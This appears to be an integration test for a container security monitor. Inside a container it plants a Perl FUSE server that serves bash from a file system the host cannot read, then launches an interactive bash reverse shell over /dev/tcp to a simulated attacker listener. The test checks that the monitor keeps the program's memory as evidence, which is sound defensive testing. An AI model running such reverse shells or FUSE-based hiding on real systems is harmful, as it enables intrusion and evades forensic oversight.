// Goal: for a program on a file system served by the container itself, where host root can read no file, the evidence
// has the program's memory and says so.
// Method: a raw FUSE server in Perl that serves one file, the image's bash.
import assert from 'node:assert/strict';
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { defaultSettings } from '../../src/monitor/settings.ts';
import { makeCoidBed } from '../incus/coid-bed.ts';
import { startAttacker } from './attacker.ts';
import { untilAudited } from './audited.ts';

const server = `
use strict;
$^F = 100;
open(my $file, '<:raw', '/bin/bash') or die "bash: $!";
my $size = -s $file;
open(my $fuse, '+<:raw', '/dev/fuse') or die "fuse: $!";
mkdir '/mnt/f';
my $options = 'fd=' . fileno($fuse) . ',rootmode=40000,user_id=0,group_id=0';
system('mount', '-i', '-t', 'fuse', '-o', $options, 'none', '/mnt/f') == 0 or die 'mount';
sub attributes { my ($node) = @_; my $dir = $node == 1;
  return pack('Q6 L3 L7', $node, $dir ? 0 : $size, 0, 0, 0, 0, 0, 0, 0, $dir ? 040755 : 0100755, 1, 0, 0, 0, 4096, 0); }
while (sysread($fuse, my $request, 1 << 20)) {
  my ($length, $opcode, $unique, $node) = unpack('L L Q Q', $request);
  my ($error, $answer) = (0, '');
  if ($opcode == 26) { $answer = pack('L6', 7, 12, 0, 0, 0, 65536); }
  elsif ($opcode == 1) { my $name = unpack('Z*', substr($request, 40));
    if ($name eq 'bash') { $answer = pack('Q4 L2', 2, 0, 60, 60, 0, 0) . attributes(2); } else { $error = -2; } }
  elsif ($opcode == 3) { $answer = pack('Q L2', 60, 0, 0) . attributes($node); }
  elsif ($opcode == 14) { $answer = pack('Q L2', 0, 0, 0); }
  elsif ($opcode == 15) { my ($handle, $offset, $count) = unpack('Q Q L', substr($request, 40));
    sysseek($file, $offset, 0); sysread($file, $answer, $count); }
  elsif ($opcode == 2 || $opcode == 42) { next; }
  elsif ($opcode == 18 || $opcode == 25 || $opcode == 34) { }
  else { $error = -38; }
  syswrite($fuse, pack('L l Q', 16 + length($answer), $error, $unique) . $answer);
}
`;

test("evidence includes a program's memory even if its file is on a file system of the container", {
  timeout: 180_000,
}, async () => {
  await using bed = await makeCoidBed();
  await using remote = await startAttacker();
  const settings = { ...defaultSettings, killGraceMs: 1000 };
  const config = { 'user.coi.monitor': JSON.stringify(settings) };
  const { container, nic } = await bed.session({ config });
  await untilAudited(bed.coid, container, ({ action }) => action === 'watch-started');
  const script = `cat > /root/server.pl <<'end'
${server}
end
setsid perl /root/server.pl </dev/null >/root/said 2>&1 &
until [ -x /mnt/f/bash ]; do sleep 0.1; done
setsid /bin/bash -c 'exec /mnt/f/bash -i >& /dev/tcp/${nic.gateway}/${remote.port} 0>&1' </dev/null >/dev/null 2>&1 &`;
  const planted = await bed.sh(container, script, 'root');
  assert.equal(planted.status, 0, planted.stderr.toString());
  await remote.connected;
  const original = (await bed.sh(container, 'head -c 4096 /bin/bash')).stdout;
  await bed.lifecycle.until('instance-deleted', container);
  const { lines } = await bed.coid.audit(container, { after: 0, waitMs: 0 });
  const kept = lines
    .map((line) => JSON.parse(line))
    .find(({ action }) => action === 'evidence-kept');
  const { directory, lacking } = kept.evidence;
  assert.equal(lacking[0].program, '/mnt/f/bash');
  assert.equal(lacking[0].kept, 'memory');
  assert.match(lacking[0].reason, /EACCES/);
  const name = (await readdir(directory)).find((one) => one.endsWith('.memory'));
  const copy = await readFile(join(directory, name ?? ''));
  assert.ok(copy.length > 100_000, `${copy.length} bytes`);
  assert.deepEqual(copy.subarray(0, 64), original.subarray(0, 64));
});
